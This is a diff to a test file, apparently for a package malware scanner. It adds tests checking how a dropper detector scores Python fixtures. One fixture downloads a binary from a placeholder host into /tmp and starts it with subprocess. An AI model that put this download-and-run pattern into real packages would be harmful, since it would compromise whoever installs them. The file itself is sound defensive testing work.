@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 
 test('a program that is downloaded and started at import is malware at the line that starts it', async () => {
@@ -248,4 +248,25 @@ test('a form with values filled in was not fetched, unless nobody asked for it',
 
   expect(await inspect('dropper', asked)).toEqual([]);
   expect(await inspect('dropper', unasked)).toMatchObject([{ class: 'malware' }]);
+});
+
+describe('a program that is fetched and started when somebody calls', () => {
+  const fetching = python(
+    'import subprocess, urllib.request',
+    'def go():',
+    "    urllib.request.urlretrieve('https://files.tools.invalid/agent-linux', '/tmp/agent-linux')",
+    "    subprocess.Popen(['/tmp/agent-linux'])",
+  );
+
+  test('is all that a few lines are for: held', async () => {
+    expect(await inspect('dropper', wheel({ 'pkg/__init__.py': fetching }))).toMatchObject([{ score: 5 }]);
+  });
+
+  test('is one thing of many that a large tool does: below', async () => {
+    const rest = python(...Array.from({ length: 2_000 }, (_, i) => `def f${i}(x): return x + ${i}`));
+
+    expect(await inspect('dropper', wheel({ 'pkg/__init__.py': fetching, 'pkg/rest.py': rest }))).toMatchObject([
+      { score: 4 },
+    ]);
+  });
 });
